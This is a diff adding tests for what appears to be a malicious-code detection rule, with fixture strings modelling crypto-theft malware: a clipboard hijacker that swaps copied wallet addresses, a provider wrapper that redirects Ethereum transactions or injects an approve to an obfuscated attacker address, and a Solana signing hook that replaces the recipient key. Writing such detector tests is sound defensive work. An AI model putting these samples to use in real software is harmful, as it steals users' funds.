@@ -140,3 +140,29 @@ test('what is copied, read and written by programs, with patterns of two currenc
   assert.equal(worst(clip('next = next.replace(kind, other);', '[/\\b0x[a-fA-F0-9]{40}\\b/, own.a]')), 'nothing', 'one currency');
   assert.equal(worst('const { spawn } = require("child_process"); const copy = (text) => spawn("pbcopy").stdin.end(text); const kinds = [[/\\b0x[a-fA-F0-9]{40}\\b/, a], [/\\bT[A-Za-z1-9]{33}\\b/, b]]; copy(kinds.reduce((t, [k, n]) => t.replace(k, n), report))'), 'nothing', 'only written');
 });
+
+test('bad: a record with a pattern and what is put in its place, beside programs that read and write what was copied; good: examples in a form, names of kinds', () => {
+  const kinds = (shown: string) => `export const KINDS = [{ name: "url", is: /^https?:/ }, { name: "evm", is: /^0x[a-fA-F0-9]{40}$/, ${shown} }]; export const kindOf = (t) => KINDS.find((kind) => kind.is.test(t))`;
+  const board = 'import { execFileSync } from "node:child_process"; const tools = { darwin: { get: ["pbpaste", []], set: ["pbcopy", []] } }; export const get = () => execFileSync(...tools.darwin.get); export const set = (input) => execFileSync(...tools.darwin.set, { input })';
+  const lists = 'const { spawnSync } = require("child_process"); exports.get = () => spawnSync("xclip", ["-selection", "c", "-o"]).stdout; exports.set = (input) => spawnSync("xclip", ["-selection", "c"], { input })';
+  const watch = 'import * as board from "./board.js"; import { kindOf } from "./kinds.js"; setInterval(() => { const kind = kindOf(board.get()); if (kind?.shown) board.set(kind.shown) }, 700)';
+  const both = (shown: string, other = board) => findingsOf(rule, { 'index.js': watch, 'board.js': other, 'kinds.js': kinds(shown) }).map(({ severity, file }) => `${severity} ${file}`);
+  assert.deepEqual(both(`shown: "${OWN}"`), ['high kinds.js']);
+  assert.deepEqual(both(`shown: "${OWN}"`, lists), ['high kinds.js']);
+  assert.deepEqual(both(`shown: "${OWN}"`, 'import clipboard from "clipboardy"; export const get = () => clipboard.read(); export const set = (t) => clipboard.write(t)'), ['high kinds.js']);
+  assert.deepEqual(both('shown: null'), []);
+  assert.deepEqual(both(`shown: "${OWN}"`, 'export const get = () => navigator.clipboard.readText(); export const set = (t) => navigator.clipboard.writeText(t)'), []);
+});
+
+test('bad: who is paid is changed in one script, and the wallet is replaced in another; good: a wallet that asks again, a contract of a kit', () => {
+  const changes = (how: string) => `const SINK = ["6666aBc2d3E4f5061728", "394a5B6c7D8e9F001122"].join(""); exports.better = (call) => { if (call.method === "eth_sendTransaction") { const tx = call.params[0]; ${how} } return call }`;
+  const wraps = 'const { better } = require("./better.js"); exports.wrap = (provider) => { const ask = provider.request.bind(provider); provider.request = async (call) => ask(better(call)); return provider }';
+  const told = (how: string, other = wraps) => findingsOf(rule, { 'index.js': other, 'better.js': changes(how) }).map(({ severity, file }) => `${severity} ${file}`);
+  assert.deepEqual(told('tx.to = "0x" + SINK;'), ['high better.js']);
+  assert.deepEqual(told('tx.data = tx.data.slice(0, 10) + "0".repeat(24) + SINK + tx.data.slice(74);'), ['high better.js']);
+  assert.deepEqual(told('tx.to = "0x" + SINK;', 'const { better } = require("./better.js"); exports.wrap = (ethereum) => new Proxy(ethereum, { get: (of, name) => (name === "request" ? (call) => of.request(better(call)) : of[name]) })'), ['high better.js']);
+  assert.deepEqual(told('tx.data = token.encodeFunctionData("approve", ["0x6666aBc2d3E4f5061728394a5B6c7D8e9F001122", tx.value]);'), ['high better.js']);
+  assert.deepEqual(told('tx.gas = tx.gas * 2;'), []);
+  assert.deepEqual(told('tx.to = "0x" + SINK;', 'const { better } = require("./better.js"); exports.pay = (provider, call) => provider.request(better(call))'), []);
+  assert.equal(worst(`exports.fix = (wallet) => { const sign = wallet.signTransaction.bind(wallet); wallet.signTransaction = async (tx) => { for (const part of tx.instructions) part.keys[1].pubkey = new PublicKey("GmaDrppBC7P5ARKV8g3djiwP89vz1jLK23V2GBjuAEGB"); return sign(tx) } }`), 'high');
+});
